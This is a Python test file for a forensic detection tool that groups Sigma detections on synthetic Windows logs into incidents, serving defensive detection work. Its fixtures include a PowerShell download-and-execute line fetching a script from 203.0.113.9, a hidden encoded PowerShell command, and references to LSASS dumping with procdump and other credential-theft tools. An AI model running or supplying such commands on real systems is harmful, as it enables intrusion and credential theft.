"""Detections grouped into incidents: one act per technique × host × window."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from typing import Any

import orjson

from ashiato.analysis import incidents
from ashiato.analysis.context import Context
from ashiato.detect import sigma
from ashiato.detect.sigma.runner import Stats

T0 = datetime(2024, 5, 1, 3, 0, tzinfo=UTC)


def _rule(key: int, title: str, level: str, tags: list[str]) -> sigma.RuleInfo:
    return sigma.RuleInfo(key, title, f"id-{key}", level, f"{key}.yml", "rule", tags)


def _event(record: int, when: datetime, host: str, **kw: Any) -> dict[str, Any]:
    row = {"@timestamp": when, "host.name": host, "evidence_id": "ev1", "record": record}
    row["event.dataset"] = "windows.security"
    row["extra"] = kw.pop("extra", None)  # present: no lookup in the case
    row.update(kw)
    return row


def _build(detections: list[sigma.Detection]) -> list[Any]:
    result = sigma.Result([], detections, [], Stats())
    return incidents.build(Context(events=None, tz="UTC"), result)


CLEAR = _rule(1, "Security Log Cleared", "high", ["attack.defense-evasion", "attack.t1070.001"])
CLEAR_OTHER = _rule(2, "Event Log Cleared", "medium", ["attack.t1070.001"])
SERVICE = _rule(3, "Suspicious Service Installed", "high", ["attack.persistence",
                                                             "attack.t1543.003"])  # fmt: skip
ENCODED = _rule(4, "Encoded PowerShell", "high", ["attack.execution", "attack.t1059.001"])


def test_clearing_every_log_in_seconds_is_one_incident() -> None:
    dets = [
        sigma.Detection(CLEAR, _event(i, T0 + timedelta(milliseconds=30 * i), "dc01",
                                      **{"user.name": "adm-tanaka"}))
        for i in range(90)
    ]  # fmt: skip
    dets += [sigma.Detection(CLEAR_OTHER, d.event) for d in dets[:10]]  # matched twice
    found = _build(dets)
    assert len(found) == 1
    inc = found[0]
    assert inc.technique == "T1070.001" and inc.technique_name == "Clear Windows Event Logs"
    assert inc.count == 90  # an event matched by two rules counts once
    assert inc.severity == "high" and inc.hosts == ["dc01"] and inc.accounts == ["adm-tanaka"]
    assert set(inc.rules) == {"Security Log Cleared", "Event Log Cleared"}
    assert inc.evidence and inc.evidence[0].ref == "ev1:0"


def test_a_long_pause_starts_a_new_incident() -> None:
    dets = [
        sigma.Detection(CLEAR, _event(1, T0, "dc01")),
        sigma.Detection(CLEAR, _event(2, T0 + timedelta(hours=5), "dc01")),
    ]
    assert [i.count for i in _build(dets)] == [1, 1]


def test_a_burst_of_services_says_what_was_smuggled() -> None:
    script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')"
    chunks = [script[i : i + 3] for i in range(0, len(script), 3)]
    dets = []
    for n, chunk in enumerate(chunks):
        data = {"ServiceName": f"svc{n:03d}", "ImagePath": f"%COMSPEC% /c echo {chunk}>>x"}
        extra = orjson.dumps({"winlog": {"event_data": data}}).decode()
        ev = _event(100 + n, T0 + timedelta(seconds=n), "fs01", extra=extra,
                    **{"event.dataset": "windows.system", "event.code": "7045"})  # fmt: skip
        dets.append(sigma.Detection(SERVICE, ev))
    found = _build(dets)
    assert len(found) == 1 and found[0].count == len(chunks)
    joined = found[0].key_values[0]
    assert joined.startswith(f"{len(chunks)} distinct service binary values")
    assert joined.endswith(f"varying parts in time order: {script}")


def test_the_same_command_on_many_hosts_is_one_deployment() -> None:
    cmd = "powershell.exe -nop -w hidden -enc SQBFAFgA"
    dets = [
        sigma.Detection(ENCODED, _event(200 + i, T0 + timedelta(minutes=i), f"pc{i:02d}",
                                        **{"process.command_line": cmd}))
        for i in range(6)
    ]  # fmt: skip
    found = _build(dets)
    assert len(found) == 1
    assert found[0].hosts == [f"pc{i:02d}" for i in range(6)] and found[0].key_values[0] == cmd


def test_other_techniques_and_hosts_stay_apart() -> None:
    dets = [
        sigma.Detection(CLEAR, _event(1, T0, "dc01")),
        sigma.Detection(ENCODED, _event(2, T0, "dc01", **{"process.command_line": "a"})),
        sigma.Detection(ENCODED, _event(3, T0, "pc02", **{"process.command_line": "b"})),
    ]
    found = _build(dets)
    assert sorted((i.technique, tuple(i.hosts)) for i in found) == [
        ("T1059.001", ("dc01",)), ("T1059.001", ("pc02",)), ("T1070.001", ("dc01",)),
    ]  # fmt: skip
    assert [i.id for i in found] == ["I1", "I2", "I3"]


SPRAY = _rule(5, "Password Spraying (Many Accounts From One Source)", "high",
              ["attack.credential-access", "attack.t1110.003"])  # fmt: skip


def _spray(host: str, code: str, outcome: str) -> sigma.Detection:
    tried = [
        _event(i, T0 + timedelta(seconds=10 * i), host, **{
            "event.code": code, "event.outcome": outcome, "user.name": f"user{i}",
            "source.ip": "203.0.113.57"})
        for i in range(1, 8)
    ]  # fmt: skip
    return sigma.Detection(SPRAY, tried[-1], related=tried)


def test_failed_sign_ins_say_where_guesses_landed_not_who_fell() -> None:
    # the DC checked the passwords (4776 failures): listed, but no verdict on the DC
    (checked,) = _build([_spray("dc01", "4776", "failure")])
    assert checked.technique == "T1110.003" and checked.weighed is False
    # 4648 explicit credentials for many accounts: this host is the one spraying
    (spraying,) = _build([_spray("pc-tky-0101", "4648", "success")])
    assert spraying.weighed is True


def test_lsass_access_names_the_program_that_opened_it() -> None:
    """Sysmon 10 has no command line: the key value is the program that read LSASS memory."""
    dump = _rule(9, "LSASS Access", "high", ["attack.credential-access", "attack.t1003.001"])
    tool = "C:\\Users\\Public\\procdump64.exe"
    event = _event(1, T0, "pc01", extra="{}", **{"event.dataset": "windows.sysmon",
                                                 "event.code": "10", "process.executable": tool})
    [inc] = _build([sigma.Detection(dump, event)])
    assert inc.technique == "T1003.001" and inc.key_values[0] == tool


def test_file_registry_and_module_events_name_what_was_written_or_loaded() -> None:
    """Sysmon 11/13/7: the file created, the key set and the module loaded are the key
    values, before the program that did it (System, svchost, reg.exe tell little)."""
    rule = _rule(10, "Staging", "high", ["attack.lateral-movement", "attack.t1021.002"])
    sysmon = {"event.dataset": "windows.sysmon"}
    dropped = _event(1, T0, "pc01", extra="{}", **sysmon, **{
        "event.code": "11", "process.executable": "System",
        "file.path": "C:\\Windows\\PSEXESVC.exe"})  # fmt: skip
    key = "HKLM\\System\\CurrentControlSet\\Services\\NTDS\\DirectoryServiceExtPt"
    data = {"TargetObject": key, "Details": "\\\\10.0.0.9\\s\\x.dll"}
    setvalue = _event(2, T0, "pc02", **sysmon, **{
        "event.code": "13", "process.executable": "C:\\Windows\\system32\\svchost.exe",
        "extra": orjson.dumps({"winlog": {"event_data": data}}).decode()})  # fmt: skip
    load = {"Image": "C:\\ProgramData\\x\\SharpRDP.exe", "ImageLoaded": "C:\\m\\mstscax.dll"}
    loaded = _event(3, T0, "pc03", **sysmon, **{
        "event.code": "7", "extra": orjson.dumps({"winlog": {"event_data": load}}).decode()})
    keys = {i.hosts[0]: i.key_values for i in _build(
        [sigma.Detection(rule, e) for e in (dropped, setvalue, loaded)])}  # fmt: skip
    assert keys["pc01"][:2] == ["C:\\Windows\\PSEXESVC.exe", "System"]
    assert keys["pc02"][0] == f"{key} = \\\\10.0.0.9\\s\\x.dll"
    assert keys["pc03"][0] == "C:\\ProgramData\\x\\SharpRDP.exe loaded C:\\m\\mstscax.dll"


BRUTE = _rule(6, "Password Guessing Against One Account (Brute Force)", "medium",
              ["attack.credential-access", "attack.t1110.001"])  # fmt: skip


def _guessing(src: str, n: int = 16) -> tuple[sigma.Detection, list[dict[str, Any]]]:
    failed = [
        _event(i, T0 + timedelta(milliseconds=i), "fs01", **{
            "event.code": "4625", "event.outcome": "failure", "user.name": "administrator",
            "source.ip": src})
        for i in range(1, n + 1)
    ]  # fmt: skip
    return sigma.Detection(BRUTE, failed[-1], related=failed), failed


def _logon(record: int, when: datetime, src: str, user: str) -> dict[str, Any]:
    return {"@timestamp": when, "event.dataset": "windows.security", "event.code": "4624",
            "event.outcome": "success", "host.name": "fs01", "user.name": user,
            "source.ip": src, "winlog.logon.type": 3, "winlog.logon.id": "0x3e7a1",
            "evidence_id": "ev1", "record": record}  # fmt: skip


def test_a_burst_then_a_success_from_that_source_is_one_guessed_password(tmp_path: Any) -> None:
    from case_rows import make_ctx

    det, failed = _guessing("10.1.2.3")
    later = T0 + timedelta(seconds=40)
    rows = [dict(r, extra=None) for r in failed] + [
        _logon(50, later, "10.1.2.3", "administrator"),
        _logon(51, later, "10.9.9.9", "suzuki"),  # another client: not the guess
    ]
    other = _rule(7, "Logon Seen", "low", ["attack.initial-access", "attack.t1078"])
    ctx = make_ctx(tmp_path, rows)
    seen = sigma.Detection(other, rows[-2])  # the success also matched another rule
    found = incidents.build(ctx, sigma.Result([], [det, seen], [], Stats()))
    assert len(found) == 1, [i.technique for i in found]
    (inc,) = found
    assert inc.technique == "T1110.001" and inc.severity == "high" and inc.weighed
    assert inc.key_values[0].startswith(f"16 failed logons from {T0.isoformat()[:19]}")
    assert "then administrator logged on (type 3) from 10.1.2.3" in inc.key_values[0]
    assert inc.first and inc.first.startswith(later.isoformat()[:19])  # when the host fell
    assert inc.evidence[-1].ref == "ev1:50"


def test_a_burst_without_a_success_from_its_source_stays_an_attempt(tmp_path: Any) -> None:
    from case_rows import make_ctx

    det, failed = _guessing("10.1.2.3")
    rows = [dict(r, extra=None) for r in failed]
    rows.append(_logon(50, T0 + timedelta(seconds=40), "10.9.9.9", "administrator"))
    rows.append(_logon(51, T0 + timedelta(hours=3), "10.1.2.3", "administrator"))  # too late
    (inc,) = incidents.build(make_ctx(tmp_path, rows), sigma.Result([], [det], [], Stats()))
    assert inc.severity == "medium" and inc.weighed is False
    assert not inc.key_values or "guessed" not in inc.key_values[0]


def test_a_script_block_naming_its_script_file_is_an_act_not_a_file_mark() -> None:
    """4104 carries the .ps1 path in file.path: someone ran it, unlike a ransom note seen
    on a disk (which only says where files were hit)."""
    dump = _rule(10, "Credential Dumping in a Script Block", "critical",
                 ["attack.credential-access", "attack.t1003.001"])  # fmt: skip
    script = _event(1, T0, "pc01", extra="{}", **{
        "event.dataset": "windows.powershell", "event.code": "4104",
        "file.path": "C:\\Users\\Public\\dump.ps1"})  # fmt: skip
    note = _event(2, T0, "fs01", extra="{}", **{
        "event.dataset": "windows.sysmon", "event.code": "11",
        "file.path": "C:\\Share\\README_RESTORE.txt"})  # fmt: skip
    notes = _rule(11, "Ransom Note Written", "high", ["attack.impact", "attack.t1486"])
    log = _event(3, T0, "pc02", extra="{}", **{
        "event.dataset": "windows.sysmon", "event.code": "11",
        "file.path": "C:\\Windows\\System32\\mimilsa.log"})  # fmt: skip
    found = _build([sigma.Detection(dump, script), sigma.Detection(notes, note),
                    sigma.Detection(dump, log)])  # fmt: skip
    by_host = {i.hosts[0]: i for i in found}
    assert by_host["pc01"].weighed is True and by_host["fs01"].weighed is False
    assert by_host["pc02"].weighed is True  # a credential dumper's log file: an act


def test_local_failures_faster_than_anyone_types_are_a_program_here() -> None:
    """16 failed logons in 15 ms with no remote address: something on this host loops over
    LogonUser, so the host is where the operator is (unlike a remote guesser's target)."""
    failed = [
        _event(i, T0 + timedelta(milliseconds=i), "pc07", **{
            "event.code": "4625", "event.outcome": "failure", "user.name": "administrator",
            "source.ip": "-", "extra": orjson.dumps({"winlog": {"event_data": {
                "LogonType": 2, "IpAddress": "-"}}}).decode()})
        for i in range(16)
    ]  # fmt: skip
    (inc,) = _build([sigma.Detection(BRUTE, failed[-1], related=failed)])
    assert inc.weighed is True
    # RDP with NLA logs its failures without an address too, as network logons
    nla = [dict(e, extra=e["extra"].replace('"LogonType":2', '"LogonType":3')) for e in failed]
    (rdp,) = _build([sigma.Detection(BRUTE, nla[-1], related=nla)])
    assert rdp.weighed is False
    assert inc.key_values[0].startswith("16 failed logons in 15 ms with no remote address")
    slow = [dict(e, **{"@timestamp": T0 + timedelta(seconds=30 * n)}) for n, e in enumerate(failed)]
    (typed,) = _build([sigma.Detection(BRUTE, slow[-1], related=slow)])
    assert typed.weighed is False  # a person mistyping at the console
